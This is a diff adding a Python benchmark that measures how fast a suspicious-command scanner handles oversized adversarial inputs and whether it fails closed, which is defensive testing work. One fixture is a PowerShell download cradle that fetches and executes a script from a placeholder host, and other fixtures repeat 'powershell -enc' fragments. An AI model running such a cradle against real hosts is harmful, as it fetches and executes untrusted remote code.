@@ -1,0 +1,190 @@
+"""Hostile inputs: ~1 MiB texts built to make a scanner slow, each timed in a forked child."""
+
+from __future__ import annotations
+
+import base64
+import multiprocessing
+import random
+import string
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from multiprocessing.connection import Connection
+
+from bench.engine import SUSPICIOUS, engine, label
+from bench.report import Result, met, table
+
+SIZE = 1_048_576  # characters
+SEED = 20250101
+RUNS = 3
+TARGET_MS = 100.0
+SLOW_MS = 2_000.0  # after a run this slow, skip the remaining runs of that input
+TIMEOUT_S = 20.0  # a child that has not finished by then is killed and reported as hung
+HEADERS = ("input", "chars", "max ms", "level", "complete", "fail-closed", "target", "met?")
+CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://cradle.example.invalid/a.ps1')"
+
+
+def _fill(unit: str, size: int = SIZE) -> str:
+    return (unit * (size // len(unit) + 1))[:size]
+
+
+def nested_base64(text: str = CRADLE, levels: int = 10) -> str:
+    for _ in range(levels):
+        text = base64.b64encode(text.encode("utf-8")).decode("ascii")
+    return text
+
+
+def urls(count: int = 40_000) -> str:
+    return " ".join(f"https://h{i}.example.invalid/p/{i}?q={i}" for i in range(count))
+
+
+def random_ascii(rng: random.Random) -> str:
+    return "".join(rng.choices(string.printable, k=SIZE))
+
+
+def random_unicode(rng: random.Random) -> str:
+    """Letters from many scripts mixed with combining marks, bidi controls and zero-widths."""
+    pools = [
+        [chr(c) for c in range(0x20, 0x7F)],
+        [chr(c) for c in range(0x0300, 0x0370)],  # combining diacritical marks
+        [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F)],
+        [chr(c) for c in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00A0, 0x3000)],
+        [chr(c) for c in range(0x0400, 0x0530)],  # Cyrillic, Armenian (homoglyphs)
+        [chr(c) for c in range(0x0590, 0x0700)],  # Hebrew, Arabic (right to left)
+        [chr(c) for c in range(0x4E00, 0x4F00)],  # CJK
+        [chr(c) for c in range(0xFF01, 0xFF5F)],  # full-width forms (NFKC folds them)
+        [chr(c) for c in range(0x1F300, 0x1F400)],  # astral plane
+    ]
+    return "".join(rng.choice(rng.choice(pools)) for _ in range(SIZE))
+
+
+def nested_brackets() -> str:
+    opens, closes = ("$(", "(", "[", "{"), (")", ")", "]", "}")
+    depth = SIZE // sum(len(o) + len(c) for o, c in zip(opens, closes, strict=True))
+    return "".join(opens) * depth + "".join(reversed(closes)) * depth
+
+
+def inputs() -> list[tuple[str, Callable[[], str]]]:
+    """(name, builder) pairs; builders are called in order with one seeded generator."""
+    rng = random.Random(SEED)
+    return [
+        ("carets `^`", lambda: _fill("^")),
+        ("opening parentheses `(`", lambda: _fill("(")),
+        ("backticks", lambda: _fill("`")),
+        ("double quotes", lambda: _fill('"')),
+        ("single quotes", lambda: _fill("'")),
+        ("zero-width spaces U+200B", lambda: _fill("\u200b")),
+        ("NUL bytes", lambda: _fill("\x00")),
+        ("nested base64, 10 levels of a cradle (one blob)", nested_base64),
+        ("nested base64 blobs, space separated", lambda: _fill(nested_base64() + " ")),
+        ("40,000 URLs, space separated", urls),
+        ("random printable ASCII", lambda: random_ascii(rng)),
+        ("random Unicode + bidi + combining marks", lambda: random_unicode(rng)),
+        ("one line of `A`", lambda: _fill("A")),
+        ("repeated `powershell -enc `", lambda: _fill("powershell -enc ")),
+        ("repeated `set a=b&&`", lambda: _fill("set a=b&&")),
+        ("nested `$( ( [ {` … `} ] ) )`", nested_brackets),
+    ]
+
+
+@dataclass(frozen=True)
+class Outcome:
+    """The slowest of the runs that finished, and the last verdict's level and completeness."""
+
+    runs: int
+    max_ms: float
+    level: int
+    complete: bool
+    error: str = ""
+
+
+def _child(text: str, conn: Connection) -> None:
+    """Analyse ``text`` up to RUNS times, sending each run's result as it finishes."""
+    try:
+        eng = engine()
+        for _ in range(RUNS):
+            start = time.perf_counter()
+            v = eng.analyze(text)
+            ms = (time.perf_counter() - start) * 1000
+            conn.send((ms, int(v.level), bool(v.complete), ""))
+            if ms > SLOW_MS:
+                break
+    except Exception as exc:  # report the crash, the parent keeps going
+        conn.send((0.0, -1, False, f"{type(exc).__name__}: {exc}"))
+    finally:
+        conn.close()
+
+
+def measure(text: str) -> Outcome:
+    """Run the child in a forked process so a hang or a crash cannot stop the benchmark."""
+    ctx = multiprocessing.get_context("fork")
+    receiver, sender = ctx.Pipe(duplex=False)
+    proc = ctx.Process(target=_child, args=(text, sender), daemon=True)
+    proc.start()
+    sender.close()
+    results, deadline = [], time.monotonic() + TIMEOUT_S
+    while len(results) < RUNS and receiver.poll(max(0.0, deadline - time.monotonic())):
+        try:
+            results.append(receiver.recv())
+        except EOFError:
+            break
+    hung = proc.is_alive() and time.monotonic() >= deadline
+    if hung:
+        proc.kill()
+    proc.join(5)
+    return _outcome(results, hung, proc.exitcode)
+
+
+def _outcome(
+    results: list[tuple[float, int, bool, str]], hung: bool, exitcode: int | None
+) -> Outcome:
+    errors = [r[3] for r in results if r[3]]
+    done = [r for r in results if not r[3]]
+    if hung:
+        errors.append(f"no verdict within {TIMEOUT_S:.0f} s")
+    elif not results:
+        errors.append(f"child died (exit code {exitcode})")
+    if not done:
+        return Outcome(0, float("inf"), -1, False, "; ".join(errors))
+    return Outcome(len(done), max(r[0] for r in done), done[-1][1], done[-1][2], "; ".join(errors))
+
+
+def run() -> list[Result]:
+    engine()  # build it once in the parent so every child inherits it ready
+    rows, errors = [], []
+    for name, build in inputs():
+        text = build()
+        outcome = measure(text)
+        rows.append(_row(name, text, outcome))
+        if outcome.error:
+            errors.append(f"- {name}: {outcome.error}")
+    notes = [
+        f"Each input analysed {RUNS} times in a forked child (the engine is built once, in "
+        "the parent); the slowest run is shown. A child with no verdict within "
+        f"{TIMEOUT_S:.0f} s is killed. Random inputs use seed {SEED}. Fail-closed is NO when "
+        "an analysis that did not complete still came back below suspicious.",
+    ]
+    if errors:
+        notes.append("\n".join(["**Errors:**", "", *errors]))
+    return [Result("Detection speed: hostile inputs", table(HEADERS, rows, "lrrlcclc"), notes)]
+
+
+def _row(name: str, text: str, out: Outcome) -> list[object]:
+    if out.runs == 0:
+        target = f"≤ {TARGET_MS:.0f} ms"
+        return [name, f"{len(text):,}", "–", "error", "–", met(False), target, met(False)]
+    over = out.max_ms > TARGET_MS
+    ms = f"**{out.max_ms:,.1f}**" if over else f"{out.max_ms:,.1f}"
+    if out.runs < RUNS:
+        ms += f" ({out.runs} run{'s' if out.runs > 1 else ''})"
+    closed = out.complete or out.level >= SUSPICIOUS
+    return [
+        name,
+        f"{len(text):,}",
+        ms,
+        label(out.level),
+        "yes" if out.complete else "no",
+        met(closed),
+        f"≤ {TARGET_MS:.0f} ms",
+        met(not over and not out.error),
+    ]
